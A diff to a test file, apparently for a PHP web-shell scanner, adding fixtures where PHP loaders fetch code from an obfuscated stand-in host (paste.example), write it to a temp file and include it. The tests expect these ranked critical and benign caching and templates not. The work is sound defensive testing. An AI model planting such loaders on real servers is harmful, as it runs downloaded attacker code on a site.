@@ -208,6 +208,68 @@ $version = include __DIR__ . '/version.php';
     expect(isAlarm('/var/www/html/update.php', updater)).toBe(false);
   });
 
+  it('ranks code fetched through its own curl function from a hidden address, written out and included, critical', () => {
+    // The address is hex: the page spells out no URL, and reads no request input.
+    const loader = `<?php
+function fetch_it($u) {
+  $c = curl_init($u);
+  curl_setopt($c, CURLOPT_RETURNTRANSFER, 1);
+  curl_setopt($c, CURLOPT_SSL_VERIFYPEER, 0);
+  $r = curl_exec($c);
+  curl_close($c);
+  return $r;
+}
+function unhex($h) { $s = ''; for ($i = 0; $i < strlen($h); $i += 2) $s .= chr(hexdec(substr($h, $i, 2))); return $s; }
+$body = fetch_it(unhex('68747470733a2f2f7061737465'));
+$tmp = tempnam(sys_get_temp_dir(), 'sess');
+file_put_contents($tmp, $body);
+include $tmp;
+unlink($tmp);
+`;
+    expect(topFinding('/var/www/html/about.php', loader)).toMatchObject({
+      severity: 'critical',
+      reason: expect.stringMatching(/runs code it downloads/),
+    });
+    // The same function's answer cached as a PHP value, or as data, runs nothing it fetched.
+    const cache = `<?php
+function api_get($u) { $c = curl_init($u); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); return curl_exec($c); }
+$rates = json_decode(api_get($settings['rates_endpoint']), true);
+file_put_contents($cacheFile, '<?php return ' . var_export($rates, true) . ';');
+$rates = include $cacheFile;
+file_put_contents(__DIR__ . '/cache/rates.json', api_get($settings['rates_endpoint']));
+`;
+    expect(isAlarm('/var/www/html/rates.php', cache)).toBe(false);
+  });
+
+  it('ranks code fetched into a tmpfile() and included by its path critical, and a compiled template not', () => {
+    const loader = `<?php
+$h = tmpfile();
+fwrite($h, file_get_contents("\\x68\\x74\\x74\\x70\\x73://paste.example/raw/fm.php"));
+include stream_get_meta_data($h)["uri"];
+fclose($h);
+`;
+    expect(topFinding('/var/www/html/wp-blog.php', loader)).toMatchObject({
+      severity: 'critical',
+      reason: expect.stringMatching(/runs code it downloads/),
+    });
+    const through = `<?php
+$t = tmpfile();
+$path = stream_get_meta_data($t)['uri'];
+$body = file_get_contents('https://paste.example/raw/fm.php');
+fputs($t, $body);
+require $path;
+`;
+    expect(topFinding('/var/www/html/x.php', through)?.reason).toMatch(/runs code it downloads/);
+    // A template engine runs what it compiled from the site's own files the same way.
+    const template = `<?php
+$source = file_get_contents(__DIR__ . '/views/' . $view . '.tpl');
+$h = tmpfile();
+fwrite($h, compile_template($source));
+include stream_get_meta_data($h)['uri'];
+`;
+    expect(isAlarm('/var/www/html/render.php', template)).toBe(false);
+  });
+
   it('ranks an upload saved under the sent name critical when its extension is only shown', () => {
     const page = `<?php
 $server_web = $_SERVER["DOCUMENT_ROOT"];
@@ -266,9 +328,10 @@ $tmp = tempnam('/dev/shm', 'x');
 file_put_contents($tmp, $body);
 include $tmp;
 `;
+    // Written to a temporary file and included: run, not installed as a page.
     expect(topFinding('/var/www/html/wp-cron2.php', held)).toMatchObject({
       severity: 'critical',
-      reason: expect.stringMatching(/saves code it downloads as a server page/),
+      reason: expect.stringMatching(/runs code it downloads/),
     });
     // A feed cached as data, through the same calls, installs no page.
     const feed = `<?php
